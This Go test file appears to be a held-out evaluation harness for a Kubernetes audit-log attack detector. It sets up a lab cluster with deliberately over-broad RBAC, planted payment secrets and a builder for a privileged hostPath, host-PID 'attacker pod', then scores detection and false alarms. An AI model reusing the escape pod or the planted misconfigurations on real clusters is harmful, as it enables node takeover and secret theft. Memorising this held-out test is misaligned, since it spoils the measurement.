// h2Refused accepts only a refusal (401 or 403).
func h2Refused(err error) error {
	if apierrors.IsForbidden(err) || apierrors.IsUnauthorized(err) {
		return nil
	}
	return fmt.Errorf("want a refusal (401/403), got %v", err)
}

// h2PastAuthz accepts success or an error raised after authorization (the
// lab has no kubelet), not a refusal.
func h2PastAuthz(err error) error {
	if err != nil && (apierrors.IsForbidden(err) || apierrors.IsUnauthorized(err)) {
		return fmt.Errorf("refused, want authorized: %w", err)
	}
	return nil
}

// h2WaitLogged waits until every recorded request is in the audit log at
// its final stage (ResponseComplete, or ResponseStarted for a request that
// failed authentication) and returns each one's response code.
func h2WaitLogged(t *testing.T, rec *auditRecorder, path string) map[string]int {
	t.Helper()
	var codes map[string]int
	eventually(t, 60*time.Second, "the recorded requests in the audit log", func() (bool, string) {
		codes = map[string]int{}
		eachLine(t, path, func(line []byte) {
			var ev struct {
				AuditID        string `json:"auditID"`
				Stage          string `json:"stage"`
				ResponseStatus *struct {
					Code int `json:"code"`
				} `json:"responseStatus"`
			}
			if json.Unmarshal(line, &ev) != nil || ev.ResponseStatus == nil {
				return
			}
			if ev.Stage == "ResponseComplete" || (ev.Stage == "ResponseStarted" && ev.ResponseStatus.Code == http.StatusUnauthorized) {
				codes[ev.AuditID] = ev.ResponseStatus.Code
			}
		})
		rec.mu.Lock()
		defer rec.mu.Unlock()
		var missing []string
		for id, step := range rec.steps {
			if _, ok := codes[id]; !ok && step != "" {
				missing = append(missing, step+" "+id)
			}
		}
		sort.Strings(missing)
		return len(missing) == 0, fmt.Sprintf("missing %q", missing)
	})
	return codes
}

// h2BenignAlert is one rule that fired on a benign step.
type h2BenignAlert struct {
	Step     string `json:"step"`
	Rule     string `json:"rule"`
	Severity string `json:"severity"`
	Count    int    `json:"count"`
}

// h2StepResult is one attack step's outcome.
type h2StepResult struct {
	Step      string   `json:"step"`
	Technique string   `json:"technique"`
	Rules     []string `json:"rules"`
}

// h2Summary is the JSON written to APIGUARD_HELDOUT_OUT.
type h2Summary struct {
	AttackSteps  int             `json:"attackSteps"`
	Detected     int             `json:"detected"`
	Rate         float64         `json:"rate"`
	BenignSteps  int             `json:"benignSteps"`
	BenignHigh   int             `json:"benignHigh"`
	Missed       []string        `json:"missed"`
	BenignAlerts []h2BenignAlert `json:"benignAlerts"`
	Attacks      []h2StepResult  `json:"attacks"`
}

func h2Measure(steps []h2Step, byStep map[string]map[string][]alertLine) h2Summary {
	sum := h2Summary{Missed: []string{}, BenignAlerts: []h2BenignAlert{}}
	for _, s := range steps {
		rules := h2SortedRules(byStep[s.name])
		if s.attack {
			sum.AttackSteps++
			if len(rules) > 0 {
				sum.Detected++
			} else {
				sum.Missed = append(sum.Missed, s.name)
			}
			sum.Attacks = append(sum.Attacks, h2StepResult{Step: s.name, Technique: s.technique, Rules: rules})
			continue
		}
		sum.BenignSteps++
		for _, r := range rules {
			als := byStep[s.name][r]
			sevs := map[string]int{}
			for _, a := range als {
				sevs[a.Severity]++
				if a.Severity == "high" || a.Severity == "critical" {
					sum.BenignHigh++
				}
			}
			for _, sev := range h2SortedKeys(sevs) {
				sum.BenignAlerts = append(sum.BenignAlerts, h2BenignAlert{Step: s.name, Rule: r, Severity: sev, Count: sevs[sev]})
			}
		}
	}
	if sum.AttackSteps > 0 {
		sum.Rate = float64(sum.Detected) / float64(sum.AttackSteps)
	}
	return sum
}

func h2Table(steps []h2Step, byStep map[string]map[string][]alertLine, sum h2Summary) string {
	var b strings.Builder
	fmt.Fprintf(&b, "ATTACK STEPS (%d)\n", sum.AttackSteps)
	for i, s := range steps {
		if !s.attack {
			continue
		}
		got := "MISSED"
		if rules := byStep[s.name]; len(rules) > 0 {
			var parts []string
			for _, r := range h2SortedRules(rules) {
				parts = append(parts, fmt.Sprintf("%s(%s)", r, rules[r][0].Severity))
			}
			got = strings.Join(parts, " ")
		}
		fmt.Fprintf(&b, "  %2d %-38s %s\n       technique: %s\n", i+1, s.name, got, s.technique)
	}
	fmt.Fprintf(&b, "BENIGN STEPS WITH ALERTS (of %d benign steps)\n", sum.BenignSteps)
	if len(sum.BenignAlerts) == 0 {
		b.WriteString("  none\n")
	}
	for _, a := range sum.BenignAlerts {
		fmt.Fprintf(&b, "  %-30s %s %s x%d\n", a.Step, a.Rule, a.Severity, a.Count)
	}
	if other := byStep[""]; len(other) > 0 {
		fmt.Fprintf(&b, "OUTSIDE THE STEPS (setup, controllers; not measured): %s\n", strings.Join(h2SortedRules(other), " "))
	}
	fmt.Fprintf(&b, "DETECTION RATE %d/%d = %.1f%%; HIGH/CRITICAL ALERTS ON BENIGN STEPS %d\n", sum.Detected, sum.AttackSteps, 100*sum.Rate, sum.BenignHigh)
	if len(sum.Missed) > 0 {
		fmt.Fprintf(&b, "MISSED: %s\n", strings.Join(sum.Missed, ", "))
	}
	return b.String()
}

func h2SortedRules(m map[string][]alertLine) []string {
	out := []string{}
	for r := range m {
		out = append(out, r)
	}
	sort.Strings(out)
	return out
}

func h2SortedKeys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func h2Ptr[T any](v T) *T { return &v }

// ---------------- setup (admin, not recorded, not measured) ----------------

// h2Setup creates the cluster the scenario runs on, as the admin: the
// namespaces, the actors' ServiceAccounts and RBAC (with the CI's
// misconfigurations the attack uses), the payments database, the logging
// DaemonSet, the backup tool, the admission policy and the policy engine's
// webhook. It returns tokens for the benign ServiceAccounts.
func h2Setup(ctx context.Context, t *testing.T, c *lab.Cluster) map[string]string {
	t.Helper()
	cs := c.AdminClient(t)
	must := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("setup %s: %v", what, err)
		}
	}
	enforced := map[string]string{"policy.example.io/enforce": "true"}
	for ns, labels := range map[string]map[string]string{
		"ci": nil, "shop": enforced, "payments": enforced, "cert-manager": nil, "argocd": nil, "keda": nil, "monitoring": nil,
		"logging": {"pod-security.kubernetes.io/enforce": "privileged"}, "velero": nil,
	} {
		_, err := cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns, Labels: labels}}, metav1.CreateOptions{})
		must("namespace "+ns, err)
	}
	sas := []string{"ci/deployer", "shop/shop-operator", "argocd/argocd-application-controller", "cert-manager/cert-manager", "keda/keda-operator", "monitoring/prometheus"}
	for _, sa := range sas {
		ns, name, _ := strings.Cut(sa, "/")
		_, err := cs.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
		must("serviceaccount "+sa, err)
	}

	rule := func(groups, resources, verbs []string, names ...string) rbacv1.PolicyRule {
		return rbacv1.PolicyRule{APIGroups: groups, Resources: resources, Verbs: verbs, ResourceNames: names}
	}
	core, apps, rbac := []string{""}, []string{"apps"}, []string{"rbac.authorization.k8s.io"}
	read := []string{"get", "list", "watch"}
	clusterRoles := map[string][]rbacv1.PolicyRule{
		// The CI onboards teams and installs charts with cluster-scoped RBAC:
		// it may bind any ClusterRole (the misconfiguration the attack uses).
		"ci-deployer-cluster": {
			rule(core, []string{"namespaces"}, read),
			rule(rbac, []string{"clusterroles"}, []string{"get", "list", "create", "update", "patch", "bind"}),
			rule(rbac, []string{"clusterrolebindings"}, []string{"get", "create", "update", "patch"}),
			rule(rbac, []string{"roles", "rolebindings"}, []string{"get", "list", "create", "update", "patch", "delete"}),
		},
		// The shop operator manages its own ClusterRole (OLM-style), with escalate.
		"shop-operator": {
			rule(apps, []string{"deployments"}, []string{"get", "list", "watch", "update", "patch"}),
			rule(core, []string{"configmaps"}, read),
			rule(rbac, []string{"clusterroles"}, []string{"get", "update", "patch", "escalate"}, "shop-operator"),
		},
		// Argo CD's default application controller role.
		"argocd-application-controller": {
			rule([]string{"*"}, []string{"*"}, []string{"*"}),
			{NonResourceURLs: []string{"*"}, Verbs: []string{"*"}},
		},
		"cert-manager-controller": {
			rule(core, []string{"secrets"}, []string{"get", "list", "watch", "create", "update", "patch", "delete"}),
			rule(core, []string{"events"}, []string{"create", "patch"}),
		},
		"keda-operator": {
			rule(apps, []string{"deployments", "statefulsets"}, read),
			rule(apps, []string{"deployments/scale", "statefulsets/scale"}, []string{"get", "update", "patch"}),
		},
		"prometheus": {
			rule(core, []string{"nodes", "services", "endpoints", "pods"}, read),
			rule([]string{"discovery.k8s.io"}, []string{"endpointslices"}, read),
			{NonResourceURLs: []string{"/metrics"}, Verbs: []string{"get"}},
		},
		"sre-node-ops": {
			rule(core, []string{"nodes"}, []string{"get", "list", "watch", "patch"}),
			rule(core, []string{"pods", "events"}, read),
			rule(core, []string{"pods/log"}, []string{"get"}),
			rule(core, []string{"pods/eviction"}, []string{"create"}),
			rule(apps, []string{"deployments", "replicasets", "statefulsets", "daemonsets"}, read),
		},
		"rbac-reader": {
			rule(rbac, []string{"clusterroles", "clusterrolebindings", "roles", "rolebindings"}, read),
			rule(core, []string{"namespaces"}, read),
		},
	}
	for name, rules := range clusterRoles {
		_, err := cs.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}, metav1.CreateOptions{})
		must("clusterrole "+name, err)
	}
	saSubject := func(sa string) rbacv1.Subject {
		ns, name, _ := strings.Cut(sa, "/")
		return rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: name}
	}
	group := func(g string) rbacv1.Subject {
		return rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: g}
	}
	crbs := []struct {
		name, role string
		subject    rbacv1.Subject
	}{
		{"ci-deployer-cluster", "ci-deployer-cluster", saSubject("ci/deployer")},
		{"shop-operator", "shop-operator", saSubject("shop/shop-operator")},
		{"argocd-application-controller", "argocd-application-controller", saSubject("argocd/argocd-application-controller")},
		{"cert-manager-controller", "cert-manager-controller", saSubject("cert-manager/cert-manager")},
		{"keda-operator", "keda-operator", saSubject("keda/keda-operator")},
		{"prometheus", "prometheus", saSubject("monitoring/prometheus")},
		{"sre-node-ops", "sre-node-ops", group("sre")},
		{"auditors-view", "view", group("auditors")},
		{"auditors-rbac-reader", "rbac-reader", group("auditors")},
	}
	for _, b := range crbs {
		_, err := cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: b.name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: b.role}, Subjects: []rbacv1.Subject{b.subject}}, metav1.CreateOptions{})
		must("clusterrolebinding "+b.name, err)
	}
	for ns, role := range map[string]string{"shop": "admin", "payments": "edit"} {
		_, err := cs.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer-" + role},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}, Subjects: []rbacv1.Subject{saSubject("ci/deployer")}}, metav1.CreateOptions{})
		must("rolebinding ci-deployer in "+ns, err)
	}

	// Payments: its secrets, its TLS certificate (managed by cert-manager), its database.
	for name, data := range map[string]map[string]string{
		"payments-db-credentials": {"username": "payments", "password": "pg-Zq81-prod"},
		"stripe-api-key":          {"api-key": "sk_live_redacted"},
	} {
		_, err := cs.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name}, StringData: data}, metav1.CreateOptions{})
		must("secret "+name, err)
	}
	_, err := cs.CoreV1().Secrets("payments").Create(ctx, h2TLSSecret("payments-api-tls", "pay.example.com"), metav1.CreateOptions{})
	must("secret payments-api-tls", err)
	_, err = cs.CoreV1().Services("payments").Create(ctx, h2Service("payments-db", "payments-db", 5432), metav1.CreateOptions{})
	must("service payments-db", err)
	dbTemplate := h2PodTemplate("payments-db", "registry.example.com/library/postgres:16.3", nil)
	dbTemplate.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "data", MountPath: "/var/lib/postgresql/data"}}
	_, err = cs.AppsV1().StatefulSets("payments").Create(ctx, &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: "payments-db"},
		Spec: appsv1.StatefulSetSpec{
			ServiceName: "payments-db",
			Replicas:    h2Ptr(int32(1)),
			Selector:    &metav1.LabelSelector{MatchLabels: map[string]string{"app": "payments-db"}},
			Template:    dbTemplate,
			VolumeClaimTemplates: []corev1.PersistentVolumeClaim{{
				ObjectMeta: metav1.ObjectMeta{Name: "data", Labels: map[string]string{"app": "payments-db"}},
				Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
					Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("10Gi")}}},
			}},
		},
	}, metav1.CreateOptions{})
	must("statefulset payments-db", err)

	// The canary release the CI uninstalls later.
	_, err = cs.CoreV1().Secrets("shop").Create(ctx, h2HelmRelease("storefront-canary", 1, "deployed"), metav1.CreateOptions{})
	must("canary release", err)
	_, err = cs.AppsV1().Deployments("shop").Create(ctx, h2Deployment("storefront-canary", "registry.example.com/shop/storefront:1.5.0-rc1", 1, "storefront-canary"), metav1.CreateOptions{})
	must("canary deployment", err)

	// The log shipper (also ships the audit log) and the backup tool.
	_, err = cs.AppsV1().DaemonSets("logging").Create(ctx, &appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Name: "fluent-bit"},
		Spec: appsv1.DaemonSetSpec{
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "fluent-bit"}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "fluent-bit"}}, Spec: corev1.PodSpec{
				Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
				Containers: []corev1.Container{{Name: "fluent-bit", Image: "cr.fluentbit.io/fluent/fluent-bit:3.0.7",
					VolumeMounts: []corev1.VolumeMount{{Name: "varlog", MountPath: "/var/log", ReadOnly: true}}}},
				Volumes: []corev1.Volume{{Name: "varlog", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/log"}}}},
			}},
		},
	}, metav1.CreateOptions{})
	must("daemonset fluent-bit", err)
	_, err = cs.AppsV1().Deployments("velero").Create(ctx, h2Deployment("velero", "velero/velero:v1.14.0", 1, "velero"), metav1.CreateOptions{})
	must("deployment velero", err)

	// Admission guard-rails: a ValidatingAdmissionPolicy on the enforced
	// namespaces, and a policy engine's webhook (its selector matches no
	// object, so the missing engine never slows the lab).
	_, err = cs.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "deny-privileged-workloads"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicySpec{
			FailurePolicy: h2Ptr(admissionregistrationv1.Fail),
			MatchConstraints: &admissionregistrationv1.MatchResources{ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{
				RuleWithOperations: admissionregistrationv1.RuleWithOperations{
					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
					Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
				}}}},
			Validations: []admissionregistrationv1.Validation{{
				Expression: "(!has(object.spec.hostNetwork) || !object.spec.hostNetwork) && " +
					"(!has(object.spec.volumes) || object.spec.volumes.all(v, !has(v.hostPath))) && " +
					"object.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) || !c.securityContext.privileged)",
				Message: "privileged, hostNetwork and hostPath pods are not allowed here",
			}},
		},
	}, metav1.CreateOptions{})
	must("validatingadmissionpolicy", err)
	_, err = cs.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "deny-privileged-workloads-binding"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicyBindingSpec{
			PolicyName:        "deny-privileged-workloads",
			ValidationActions: []admissionregistrationv1.ValidationAction{admissionregistrationv1.Deny},
			MatchResources:    &admissionregistrationv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchLabels: enforced}},
		},
	}, metav1.CreateOptions{})
	must("validatingadmissionpolicybinding", err)
	_, err = cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "policy-engine-validating-webhook"},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{
			Name:         "validate.policy-engine.example.io",
			ClientConfig: admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: "policy-engine", Name: "policy-engine-svc", Path: h2Ptr("/validate")}},
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{"", "apps"}, APIVersions: []string{"v1"}, Resources: []string{"pods", "deployments", "daemonsets"}}}},
			ObjectSelector:          &metav1.LabelSelector{MatchLabels: map[string]string{"policy.example.io/webhook-canary": "true"}},
			FailurePolicy:           h2Ptr(admissionregistrationv1.Ignore),
			SideEffects:             h2Ptr(admissionregistrationv1.SideEffectClassNone),
			AdmissionReviewVersions: []string{"v1"},
		}},
	}, metav1.CreateOptions{})
	must("validatingwebhookconfiguration", err)

	// Tokens of the ServiceAccounts the benign actors (and the leak) use.
	tokens := map[string]string{}
	for _, sa := range []string{"ci/deployer", "argocd/argocd-application-controller", "cert-manager/cert-manager", "keda/keda-operator", "monitoring/prometheus"} {
		ns, name, _ := strings.Cut(sa, "/")
		tr, err := cs.CoreV1().ServiceAccounts(ns).CreateToken(ctx, name, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h2Ptr(int64(3600))}}, metav1.CreateOptions{})
		must("token "+sa, err)
		tokens[sa] = tr.Status.Token
	}

	// kube-controller-manager creates the workloads' pods (they stay
	// Pending: no scheduler, no kubelet); the scenario acts on them.
	eventually(t, 60*time.Second, "the payments-db-0 and canary pods", func() (bool, string) {
		_, err1 := cs.CoreV1().Pods("payments").Get(ctx, "payments-db-0", metav1.GetOptions{})
		pods, err2 := cs.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{LabelSelector: "app=storefront-canary"})
		ok := err1 == nil && err2 == nil && len(pods.Items) > 0
		return ok, fmt.Sprintf("payments-db-0: %v, canary: %v", err1, err2)
	})
	return tokens
}

// ---------------- object builders ----------------

func h2HelmLabels(release string) map[string]string {
	return map[string]string{"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": release, "helm.sh/chart": release + "-1.4.0"}
}

// h2HelmRelease is a Helm v3 release Secret.
func h2HelmRelease(name string, version int, status string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("sh.helm.release.v1.%s.v%d", name, version),
			Labels: map[string]string{"owner": "helm", "name": name, "status": status, "version": fmt.Sprint(version)}},
		Type: "helm.sh/release.v1",
		Data: map[string][]byte{"release": []byte("H4sIAAAAAAAC/+xYW2/bOBZ+9q8QsPso2ZJsKxdgH7JJpg2adrtNmnkoiuCIOrK4pkiBpBS7wP73ASXbsR2pnX0Y7MPuWxx9")},
	}
}

func h2TLSSecret(name, host string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: name,
			Labels: map[string]string{"controller.cert-manager.io/fao": "true"},
			Annotations: map[string]string{"cert-manager.io/certificate-name": name, "cert-manager.io/issuer-name": "letsencrypt-prod",
				"cert-manager.io/issuer-kind": "ClusterIssuer", "cert-manager.io/common-name": host}},
		Type: corev1.SecretTypeTLS,
		Data: map[string][]byte{
			"tls.crt": []byte("-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----\n"),
			"tls.key": []byte("-----BEGIN EC PRIVATE KEY-----\nMHcC...\n-----END EC PRIVATE KEY-----\n"),
		},
	}
}

func h2Event(ns, secret, reason, msg string) *corev1.Event {
	now := metav1.Now()
	return &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{GenerateName: secret + ".", Namespace: ns},
		InvolvedObject: corev1.ObjectReference{Kind: "Certificate", APIVersion: "cert-manager.io/v1", Namespace: ns, Name: secret},
		Reason:         reason, Message: msg, Type: corev1.EventTypeNormal,
		Source:         corev1.EventSource{Component: "cert-manager-certificates-issuing"},
		FirstTimestamp: now, LastTimestamp: now, Count: 1,
	}
}

func h2Service(name, app string, port int32) *corev1.Service {
	return &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec:       corev1.ServiceSpec{Selector: map[string]string{"app": app}, Ports: []corev1.ServicePort{{Name: "main", Port: port}}},
	}
}

// h2PodTemplate is a restricted-profile pod template for an ordinary app.
func h2PodTemplate(app, image string, command []string) corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{
		ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": app}},
		Spec: corev1.PodSpec{
			SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: h2Ptr(true), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
			Containers: []corev1.Container{{
				Name: app, Image: image, Command: command,
				SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: h2Ptr(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}},
				Resources:       corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("100m"), corev1.ResourceMemory: resource.MustParse("128Mi")}},
			}},
		},
	}
}

func h2JobTemplate(app, image string, command []string) corev1.PodTemplateSpec {
	p := h2PodTemplate(app, image, command)
	p.Spec.RestartPolicy = corev1.RestartPolicyNever
	return p
}

func h2Deployment(name, image string, replicas int32, app string) *appsv1.Deployment {
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Labels: h2HelmLabels(app)},
		Spec: appsv1.DeploymentSpec{
			Replicas: h2Ptr(replicas),
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": app}},
			Template: h2PodTemplate(app, image, nil),
		},
	}
}

func h2ApplyDeployment(ns, name, image string, replicas int32) *appsv1ac.DeploymentApplyConfiguration {
	return appsv1ac.Deployment(name, ns).
		WithLabels(map[string]string{"app.kubernetes.io/instance": "payments"}).
		WithSpec(appsv1ac.DeploymentSpec().WithReplicas(replicas).
			WithSelector(metav1ac.LabelSelector().WithMatchLabels(map[string]string{"app": name})).
			WithTemplate(corev1ac.PodTemplateSpec().WithLabels(map[string]string{"app": name}).
				WithSpec(corev1ac.PodSpec().
					WithSecurityContext(corev1ac.PodSecurityContext().WithRunAsNonRoot(true).WithSeccompProfile(corev1ac.SeccompProfile().WithType(corev1.SeccompProfileTypeRuntimeDefault))).
					WithContainers(corev1ac.Container().WithName(name).WithImage(image).
						WithPorts(corev1ac.ContainerPort().WithName("http").WithContainerPort(8080)).
						WithSecurityContext(corev1ac.SecurityContext().WithAllowPrivilegeEscalation(false).WithCapabilities(corev1ac.Capabilities().WithDrop("ALL")))))))
}

// h2HostPod is an attacker pod with a hostPath mount of hostPath at /host,
// optionally privileged with the host's PID namespace, optionally on the
// host network, pinned to node (when set) with tolerations for every taint.
func h2HostPod(name, node, hostPath string, privileged, hostNet bool, image string, command []string) *corev1.Pod {
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: corev1.PodSpec{
			NodeName:    node,
			HostNetwork: hostNet,
			HostPID:     privileged,
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
			Containers: []corev1.Container{{
				Name: "main", Image: image, Command: command, Stdin: true, TTY: true,
				VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}},
			}},
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: hostPath}}}},
		},
	}
	if privileged {
		p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: h2Ptr(true)}
	}
	return p
}

// h2CSR returns a PEM certificate request for CN=user, O=group, and its key.
func h2CSR(user, group string) (csrPEM, keyPEM []byte, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user, Organization: []string{group}}}, key)
	if err != nil {
		return nil, nil, err
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		return nil, nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}), nil
}
